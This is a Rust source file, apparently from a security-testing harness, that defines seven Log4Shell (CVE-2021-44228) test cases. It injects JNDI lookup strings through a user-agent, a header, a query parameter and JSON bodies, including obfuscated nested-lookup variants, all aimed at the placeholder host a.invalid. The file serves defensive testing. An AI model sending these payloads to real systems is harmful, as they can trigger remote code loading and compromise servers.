//! Log lookups in the manner of CVE-2021-44228. Nothing is dialled; the portal notes what it was told to ask for.

use serde_json::json;

use super::encode::json_escaped;
use super::{Attack, AttackClass, Encoding, Place, Proof};
use crate::drill::request::Request;

fn jndi(place: Place, encoding: Encoding, name: &'static str, request: Request, uri: &'static str) -> Attack {
    Attack::new(AttackClass::Jndi, place, encoding, name, request, Proof::LooksUp(uri))
}

pub(super) fn all() -> Vec<Attack> {
    use Encoding::{JsonEscape, Obfuscated, Percent, Plain};
    use Place::{Header, Json, Query};
    let client = || Request::get("/api/v1/client");
    let post = || Request::post("/api/v1/client");
    vec![
        jndi(
            Header,
            Plain,
            "directory in the user agent",
            client().agent("${jndi:ldap://a.invalid/agent}"),
            "ldap://a.invalid/agent",
        ),
        jndi(
            Header,
            Plain,
            "remote method in a header",
            client().header("X-Client-Name", "${jndi:rmi://a.invalid/header}"),
            "rmi://a.invalid/header",
        ),
        jndi(
            Header,
            Obfuscated,
            "nested lower",
            client().header("X-Client-Name", "${${lower:j}${lower:N}di:${lower:l}dap://a.invalid/lower}"),
            "ldap://a.invalid/lower",
        ),
        jndi(
            Query,
            Percent,
            "directory in a query",
            client().query("client", "${jndi:ldap://a.invalid/query}"),
            "ldap://a.invalid/query",
        ),
        jndi(
            Query,
            Obfuscated,
            "nested defaults",
            client().query("client", "${${::-j}${::-n}${::-d}${::-i}:dns://a.invalid/default}"),
            "dns://a.invalid/default",
        ),
        jndi(
            Json,
            Plain,
            "directory in JSON",
            post().json(&json!({"client": "${jndi:ldaps://a.invalid/json}"})),
            "ldaps://a.invalid/json",
        ),
        jndi(
            Json,
            JsonEscape,
            "directory in JSON escapes",
            post().body("application/json", json_escaped("client", "${jndi:ldap://a.invalid/escaped}")),
            "ldap://a.invalid/escaped",
        ),
    ]
}
